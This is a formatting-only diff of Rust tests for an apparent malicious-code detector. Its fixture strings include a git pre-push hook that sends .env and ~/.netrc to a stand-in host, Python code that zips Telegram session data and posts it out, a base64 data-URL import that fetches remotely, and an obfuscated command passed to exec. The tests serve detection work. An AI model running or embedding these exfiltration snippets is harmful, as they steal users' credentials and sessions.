@@ -171,8 +171,12 @@ fn hooks_of_repositories_send_nothing() {
         format!("const fs = require('fs'), os = require('os'); fs.writeFileSync(os.homedir() + '{place}', '{text}');")
     };
     let sends = "#!/bin/sh\\ntar cz .env ~/.netrc | curl -s --data-binary @- https://h.invalid/p";
-    assert!(rules(Language::JavaScript, &code("/.config/git/hooks/pre-push", sends)).contains(&"flow-credentials-sent"));
-    assert!(rules(Language::JavaScript, &code("/.config/git/hooks/pre-push", "#!/bin/sh\\nnpx lint-staged")).is_empty());
+    assert!(
+        rules(Language::JavaScript, &code("/.config/git/hooks/pre-push", sends)).contains(&"flow-credentials-sent")
+    );
+    assert!(
+        rules(Language::JavaScript, &code("/.config/git/hooks/pre-push", "#!/bin/sh\\nnpx lint-staged")).is_empty()
+    );
     assert!(rules(Language::JavaScript, &code("/.config/notes/pre-push.txt", sends)).is_empty());
 }
 
@@ -192,9 +196,7 @@ fn what_an_agent_hands_to_its_plugins_is_told() {
 fn an_archive_holds_what_its_folder_holds() {
     let code = "import os, shutil, requests\nsrc = os.path.join(os.getenv('APPDATA', ''), 'PLACE')\n\
                 z = shutil.make_archive('/tmp/td', 'zip', src)\nrequests.post('https://h.invalid/d', files={'document': open(z, 'rb')})\n";
-    assert!(
-        rules(Language::Python, &code.replace("PLACE", "Telegram Desktop/tdata")).contains(&"flow-stores-sent")
-    );
+    assert!(rules(Language::Python, &code.replace("PLACE", "Telegram Desktop/tdata")).contains(&"flow-stores-sent"));
     assert!(!rules(Language::Python, &code.replace("PLACE", "mytool/reports")).contains(&"flow-stores-sent"));
 }
 
@@ -225,14 +227,16 @@ fn letters_that_are_cut_out_make_commands() {
 
 #[test]
 fn modules_out_of_addresses_are_executed() {
-    let code = "import('data:text/javascript;base64,' + Buffer.from(\"fetch('https://h.invalid/x')\").toString('base64'))";
+    let code =
+        "import('data:text/javascript;base64,' + Buffer.from(\"fetch('https://h.invalid/x')\").toString('base64'))";
     assert_eq!(subject(&outcome(Language::JavaScript, code), Act::Fetch), "https://h.invalid/x");
     assert!(rules(Language::JavaScript, "import('data:application/json;base64,e30=')").is_empty());
 }
 
 #[test]
 fn pieces_of_templates_are_known_to_their_tags() {
-    let code = "const T = (s, ...v) => s.raw.join('').split('').map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
+    let code =
+        "const T = (s, ...v) => s.raw.join('').split('').map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
                 require('child_process').exec(T`fdip!y`)";
     assert_eq!(command(Language::JavaScript, code), "echo x");
 }
